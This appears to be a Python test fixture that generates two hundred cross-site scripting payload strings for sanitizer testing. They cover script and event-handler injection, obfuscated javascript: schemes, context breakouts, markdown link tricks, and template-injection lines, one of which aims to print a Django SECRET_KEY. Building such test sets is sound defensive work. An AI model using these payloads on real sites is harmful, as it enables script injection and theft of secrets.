"""Two hundred ways to slip a script into a text, built from the known families; none is to run anywhere."""

from __future__ import annotations

from itertools import islice, product

_ACTION = "window.__ran=1"
_TAGS = (
    "script", "img", "svg", "iframe", "body", "video", "audio", "details", "math", "object", "input", "a",
    "style",
)  # fmt: skip
_EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerover",
)  # fmt: skip
_BREAKS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "\n\n", "]]>", "`")
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "javascript&colon;",
    "vbscript:", "&#106;avascript:", "\x01javascript:", "data:text/html,<script>", "data:text/html;base64,",
    "view-source:javascript:",
)  # fmt: skip
_WHOLE = (
    f"<script>{_ACTION}</script>",
    f"<SCRIPT>{_ACTION}</SCRIPT >",
    f"<scr<script>ipt>{_ACTION}</scr</script>ipt>",
    f"<svg><script>{_ACTION}</script></svg>",
    f"<svg><animate onbegin={_ACTION} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_ACTION}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_ACTION}>\">",
    f'<iframe srcdoc="<script>{_ACTION}</script>"></iframe>',
    f"<object data=\"javascript:{_ACTION}\"></object>",
    f"<form action=\"javascript:{_ACTION}\"><button>x</button></form>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{_ACTION}\">",
    f"<base href=\"javascript:{_ACTION}//\">",
    f"<link rel=stylesheet href=\"data:text/css,*{{}}\"><img src=x onerror={_ACTION}>",
    f"[x](<javascript:{_ACTION}>)",
    f"[x]: javascript:{_ACTION}\n\n[x]",
    f"![x](x \"onerror={_ACTION}\")",
    f"<javascript:{_ACTION}>",
    f"{{{{constructor.constructor('{_ACTION}')()}}}}",
    "{% debug %}{{ settings.SECRET_KEY }}",
    f"<style>@import 'javascript:{_ACTION}';</style>",
)


def _families():
    yield from _WHOLE
    yield from (f"{scheme}{_ACTION}" for scheme in _SCHEMES)
    for close, tag, event in product(_BREAKS, _TAGS, _EVENTS):
        yield f"{close}<{tag} src=x {event}={_ACTION} autofocus tabindex=1>"


def _spread() -> list[str]:
    """The whole ones first, then every so-many-th of the built ones, so that every family is in it."""
    made = list(_families())
    whole = made[: len(_WHOLE) + len(_SCHEMES)]
    built = made[len(whole) :]
    wanted = 200 - len(whole)
    return whole + list(islice(built[:: max(1, len(built) // wanted)], wanted))


PAYLOADS = _spread()
